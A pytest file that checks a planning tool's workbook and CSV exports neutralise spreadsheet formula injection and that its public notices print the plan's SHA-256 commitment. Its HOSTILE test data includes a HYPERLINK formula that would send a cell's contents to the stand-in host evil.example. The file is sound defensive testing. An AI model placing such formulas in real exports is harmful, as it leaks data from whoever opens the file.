"""Exports cannot be turned against their readers: a name is never run as a formula, in workbooks or CSV; and the
public notice prints the plan's commitment."""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import zipfile

import openpyxl
import pytest
from pypdf import PdfReader

from planner.export import export_plan

HOSTILE = {"business": '=HYPERLINK("http://evil.example/?x="&A1,"点此")', "inspector": "+1+1",
           "item": "@SUM(1+1)*cmd", "department": "-2+3"}


@pytest.fixture(scope="module")
def hostile(tiny, tiny_run):
    """The tiny dataset with names a hostile or careless hand put in the registers."""
    visit = tiny_run.plan.visits[0]
    code, person, item_id = visit.credit_code, visit.inspector_ids[0], visit.item_ids[0]
    dept_id = tiny.item[item_id].dept_id
    return dataclasses.replace(
        tiny,
        businesses=[dataclasses.replace(b, name=HOSTILE["business"]) if b.credit_code == code else b
                    for b in tiny.businesses],
        inspectors=[dataclasses.replace(p, name=HOSTILE["inspector"]) if p.inspector_id == person else p
                    for p in tiny.inspectors],
        items=[dataclasses.replace(i, name=HOSTILE["item"]) if i.item_id == item_id else i for i in tiny.items],
        departments=[dataclasses.replace(d, name=HOSTILE["department"]) if d.dept_id == dept_id else d
                     for d in tiny.departments])


@pytest.fixture(scope="module")
def exports(hostile, tiny_plan_dir, tmp_path_factory):
    out = tmp_path_factory.mktemp("exports") / "out"
    export_plan(tiny_plan_dir, hostile, out)
    return out


def workbooks(out):
    return sorted(out.rglob("*.xlsx"))


def test_workbooks_hold_no_formula_and_keep_every_name_as_text(exports):
    found = set()
    for path in workbooks(exports):
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in xml and b"<f " not in xml for xml in sheets), path.name
        for ws in openpyxl.load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and any(bad in cell.value for bad in HOSTILE.values()):
                        assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
                        found |= {key for key, bad in HOSTILE.items() if bad in cell.value}
    assert found == set(HOSTILE)  # every hostile name was exported, and stayed text


def test_csv_cells_that_would_run_as_formulas_are_written_as_text(exports):
    text = (exports / "公示" / "抽查公示.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE["business"] in cells and "'" + HOSTILE["item"] in cells and "'" + HOSTILE["department"] in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_public_notice_prints_the_commitment(exports, tiny_plan_dir):
    committed = json.loads((tiny_plan_dir / "record.json").read_text(encoding="utf-8"))["commitment"]
    html = (exports / "公示" / "抽查公示.html").read_text(encoding="utf-8")
    assert f"方案承诺值（SHA-256）：{committed}" in html and "--commitment" in html
    pdf = "".join(page.extract_text() for page in PdfReader(exports / "公示" / "抽查公示.pdf").pages)
    assert committed in "".join(pdf.replace("\x00", "").split())
